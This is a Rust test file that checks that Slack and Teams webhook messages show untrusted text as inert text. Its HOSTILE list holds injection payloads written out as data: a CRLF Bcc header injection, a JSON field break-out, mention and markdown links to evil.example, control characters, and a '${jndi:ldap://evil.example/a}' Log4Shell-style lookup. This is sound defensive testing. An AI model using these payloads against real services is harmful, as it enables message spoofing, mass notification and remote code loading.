//! Names and reasons are text from outside: on no channel are they more than text.

use super::{Bed, checked, drifted, item, letter, now, python};
use crate::support::program;
use crate::support::sink::{Sink, say};
use evidenced::notify::message::Message;

const HOSTILE: [&str; 12] = [
    "<!channel> <@U0000> <https://evil.example|click>",
    "</section>&lt;b&gt;&amp;",
    "[click](https://evil.example) **bold** ![x](https://evil.example/x.png)",
    "{{DATE(2026-01-01T00:00:00Z,SHORT)}} {{{DATE(2026-01-01T00:00:00Z)}}}",
    "<at>everybody</at>",
    "\", \"injected\": \"x",
    "a\r\nBcc: everybody@acme.example",
    "\u{202e}txet\u{2066}",
    "\u{1b}[31mred\u{0}",
    "𝄞 ü 東京",
    "`code` @acme/everybody #1 GH-2",
    "${jndi:ldap://evil.example/a}",
];

fn told() -> Message {
    let all = HOSTILE.join(" ");
    Message {
        headline: all.clone(),
        owner: Some(all.clone()),
        organization: all.clone(),
        items: HOSTILE.iter().map(|text| item(text, text)).collect(),
        next: HOSTILE.map(str::to_owned).into(),
        ..drifted("a-1")
    }
}

#[tokio::test]
async fn slack_shows_it_as_text() {
    let (bed, sink) = (Bed::new(), Sink::start(|_| say(200, "ok")));
    bed.hook("slack", &sink.url("/services/T/B/x")).send(&letter(vec![told()]), now()).await.unwrap();
    let got = sink.take();
    checked(&python(), "tests/beds/check_slack.py", &[], &format!("{}\n", got[0].body));
    let message = got[0].json();
    let blocks = message["blocks"].as_array().unwrap();
    let texts: Vec<&str> = blocks.iter().filter_map(|block| block["text"]["text"].as_str()).collect();
    let all = texts.join("\n") + message["text"].as_str().unwrap();
    assert!(!all.contains(['<', '>']) && all.contains("&lt;!channel&gt;"), "{all}");
    let and = all.replace("&amp;", "").replace("&lt;", "").replace("&gt;", "");
    assert!(!and.contains('&'), "an ampersand is left: {and}");
    assert!(blocks.iter().all(|block| block["type"] == "divider" || block["text"]["verbatim"] == true));
    assert!(!all.contains(['\u{1b}', '\u{202e}', '\r', '\u{0}']));
}

#[tokio::test]
async fn teams_shows_it_as_text() {
    let (bed, sink) = (Bed::new(), Sink::start(|_| say(202, "")));
    bed.hook("teams", &sink.url("/w")).send(&letter(vec![told()]), now()).await.unwrap();
    let got = sink.take();
    checked(&program("node"), "tests/schema/card.mjs", &[], &format!("{}\n", got[0].body));
    assert!(!got[0].body.contains("{{"), "a form of a date is left");
    let card = &got[0].json()["attachments"][0]["content"];
    let runs = |block: &serde_json::Value| {
        assert_eq!(block["type"], "RichTextBlock", "text stands in runs alone, which have no markup");
        block["inlines"]
            .as_array()
            .unwrap()
            .iter()
            .all(|run| run["type"] == "TextRun" && run.get("selectAction").is_none())
    };
    assert!(card["body"].as_array().unwrap().iter().all(runs));
    assert!(card["msteams"].get("entities").is_none(), "without entities nobody is called");
}
